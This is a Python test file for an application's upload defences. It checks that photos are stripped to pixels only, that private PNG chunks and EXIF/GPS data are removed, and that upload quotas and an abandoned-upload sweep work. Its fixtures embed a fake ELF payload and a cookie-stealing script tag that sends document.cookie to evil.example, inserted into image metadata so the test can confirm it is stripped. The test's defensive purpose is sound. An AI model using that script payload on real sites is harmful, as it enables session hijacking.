"""Uploads under abuse (issue #13 item 4): photos are stored as pixels only (no COM/EXIF/GPS,
no private PNG chunks), unfinished uploads are capped per owner and swept when abandoned, and an
application holds a bounded number of files and bytes."""

from __future__ import annotations

import hashlib
import io
import zlib
from datetime import UTC, datetime, timedelta

import pytest
from PIL import Image

from banzheng.common.dbtime import for_query
from banzheng.materials import jobs, limits
from banzheng.materials.models import MaterialFile, UploadSession
from tests.helpers import assert_error
from tests.materials import samples
from tests.materials.test_uploads import (
    CONTRACT,
    ID_CARD,
    application,  # noqa: F401 - fixture
    patch,
    start,
    stored_objects,
    upload,
)

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"payload-that-must-not-be-served"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
MB = limits.MB


def jpeg_with_metadata() -> bytes:
    """A phone photo taken sideways (EXIF orientation 6) with its GPS position and an ELF in a
    COM segment."""
    exif = Image.Exif()
    exif[0x0112] = 6
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (39.0, 54.0, 27.0), "E", (116.0, 23.0, 17.0)
    return samples.encode(samples.text_page(1200, 900), "JPEG", quality=90, exif=exif, comment=ELF)


def png_with_private_chunks() -> bytes:
    clean = samples.png()
    ihdr_end = 8 + 25  # signature + IHDR chunk
    extra = samples._png_chunk(b"prVt", ELF) + samples._png_chunk(
        b"zTXt", b"Comment\x00\x00" + zlib.compress(SCRIPT)
    )
    return clean[:ihdr_end] + extra + clean[ihdr_end:]


def png_chunk_types(data: bytes) -> list[bytes]:
    kinds, at = [], 8
    while at < len(data):
        length = int.from_bytes(data[at : at + 4], "big")
        kinds.append(data[at + 4 : at + 8])
        at += 12 + length
    return kinds


async def download(act, object_id: str) -> bytes:
    owner = await act("alice")
    link = (await owner.get(f"/api/v1/materials/{object_id}/link")).json()
    resp = await owner.get(link["url"])
    assert resp.status_code == 200
    return resp.content


async def test_a_jpeg_is_stored_as_its_pixels_only(act, application):  # noqa: F811
    original = jpeg_with_metadata()
    assert ELF in original
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)
    resp = await upload(act, application, ID_CARD, original)
    assert resp.status_code == 201, resp.text
    body = resp.json()
    stored = await download(act, body["object_id"])
    assert ELF not in stored and b"payload-that-must" not in stored
    image = Image.open(io.BytesIO(stored))
    assert image.format == "JPEG" and not image.getexif() and "comment" not in image.info
    assert "icc_profile" not in image.info and "exif" not in image.info
    assert image.size == (900, 1200)  # turned upright before the orientation tag went
    # what the owner is told, what is recorded and what is served are the same bytes
    assert body["size"] == len(stored) and body["sha256"] == hashlib.sha256(stored).hexdigest()
    record = await MaterialFile.get(object_id=body["object_id"])
    assert record.sha256 == body["sha256"] and record.kind == "jpeg"


async def test_a_png_keeps_its_pixels_and_loses_every_other_chunk(act, application):  # noqa: F811
    original = png_with_private_chunks()
    assert b"prVt" in png_chunk_types(original) and b"zTXt" in png_chunk_types(original)
    resp = await upload(act, application, ID_CARD, original, filename="scan.png")
    assert resp.status_code == 201, resp.text
    stored = await download(act, resp.json()["object_id"])
    assert set(png_chunk_types(stored)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}
    assert ELF not in stored and b"Comment" not in stored
    before = Image.open(io.BytesIO(original)).convert("RGB")
    after = Image.open(io.BytesIO(stored)).convert("RGB")
    assert before.tobytes() == after.tobytes()  # lossless: the picture is unchanged


async def test_a_resumable_photo_is_cleaned_too(act, application, app):  # noqa: F811
    original = jpeg_with_metadata()
    created = await start(act, application, len(original), code=CONTRACT)
    done = await patch(act, created.headers["location"], 0, original)
    assert done.status_code == 200, done.text
    file = done.json()["file"]
    stored = await download(act, file["object_id"])
    assert ELF not in stored and file["sha256"] == hashlib.sha256(stored).hexdigest()
    assert len(stored_objects(app)) == 1  # the parts and the original are gone


async def test_unfinished_uploads_are_capped_per_owner(act, application):  # noqa: F811
    for _ in range(limits.MAX_OPEN_UPLOADS_PER_OWNER):
        assert (await start(act, application, 1000)).status_code == 201
    refused = await start(act, application, 1000)
    error = assert_error(refused, 429, "UPLOAD_SESSIONS_LIMIT")
    assert error["details"]["limit"] == limits.MAX_OPEN_UPLOADS_PER_OWNER
    assert await UploadSession.all().count() == limits.MAX_OPEN_UPLOADS_PER_OWNER


async def test_the_bytes_of_unfinished_uploads_are_capped_per_owner(act, application):  # noqa: F811
    """Five 20 MiB sessions at once (the penetration test's) stop at the fourth."""
    answers = [(await start(act, application, 20 * MB)).status_code for _ in range(5)]
    assert answers == [201, 201, 201, 413, 413]
    error = assert_error(await start(act, application, 20 * MB), 413, "UPLOAD_QUOTA_EXCEEDED")
    assert error["details"]["quota"] == "owner_open_bytes"
    assert error["details"]["used"] == 60 * MB


async def test_an_application_holds_a_bounded_number_of_files(
    act,
    application,  # noqa: F811
    monkeypatch,
):
    monkeypatch.setattr(limits, "MAX_APPLICATION_FILES", 2)
    for _ in range(2):
        assert (await upload(act, application, ID_CARD, samples.jpeg())).status_code == 201
    refused = await upload(act, application, ID_CARD, samples.jpeg())
    assert assert_error(refused, 413, "UPLOAD_QUOTA_EXCEEDED")["details"]["quota"] == (
        "application_files"
    )
    assert await MaterialFile.all().count() == 2


async def test_an_application_holds_a_bounded_number_of_bytes(
    act,
    application,  # noqa: F811
    monkeypatch,
    app,
):
    monkeypatch.setattr(limits, "MAX_APPLICATION_BYTES", 2_000)
    pdf = samples.pdf(pages=40)
    assert len(pdf) > 2_000
    refused = await upload(act, application, CONTRACT, pdf, filename="c.pdf")
    assert assert_error(refused, 413, "UPLOAD_QUOTA_EXCEEDED")["details"]["quota"] == (
        "application_bytes"
    )
    assert stored_objects(app) == set()
    assert_error(await start(act, application, len(pdf)), 413, "UPLOAD_QUOTA_EXCEEDED")


async def test_the_sweep_removes_abandoned_uploads_and_their_parts(act, application, app):  # noqa: F811
    data = samples.pdf(pages=10)
    abandoned = await start(act, application, len(data))
    await patch(act, abandoned.headers["location"], 0, data[:1000])
    live = await start(act, application, len(data))
    await patch(act, live.headers["location"], 0, data[:1000])
    assert len(stored_objects(app)) == 2
    abandoned_id = abandoned.headers["location"].rsplit("/", 1)[1]
    ran_out = datetime.now(UTC) - timedelta(hours=1)
    await UploadSession.filter(id=abandoned_id).update(expires_at=for_query(ran_out))

    # within the grace period nothing is touched
    early = ran_out + timedelta(seconds=limits.UPLOAD_SWEEP_GRACE_SECONDS - 60)
    assert await jobs.sweep_uploads({"storage": app.ctx.storage}, now=early) == {
        "sessions": 0,
        "parts": 0,
    }
    swept = await jobs.sweep_uploads({"storage": app.ctx.storage})
    assert swept == {"sessions": 1, "parts": 1}
    assert not await UploadSession.filter(id=abandoned_id).exists()
    assert len(stored_objects(app)) == 1  # the live upload's part stays
    assert await UploadSession.all().count() == 1
    # running again (at-least-once delivery) changes nothing
    assert (await jobs.sweep_uploads({"storage": app.ctx.storage}))["sessions"] == 0


def test_the_sweep_is_on_the_worker_schedule():
    from banzheng import worker

    assert jobs.sweep_uploads in worker.FUNCTIONS
    assert any(c.function is jobs.sweep_uploads for c in worker.CRON_JOBS)


@pytest.mark.parametrize("kind", ["jpeg", "png"])
def test_reencoding_keeps_grey_and_transparent_images_as_they_are(kind):
    from banzheng.materials.reencode import pixels_only

    grey = samples.encode(Image.new("L", (640, 480), 128), kind.upper())
    assert Image.open(io.BytesIO(pixels_only(grey, kind))).mode == "L"
    if kind == "png":
        clear = Image.new("RGBA", (64, 64), (255, 0, 0, 0))
        out = Image.open(io.BytesIO(pixels_only(samples.encode(clear, "PNG"), "png")))
        assert out.mode == "RGBA" and out.getpixel((3, 3))[3] == 0
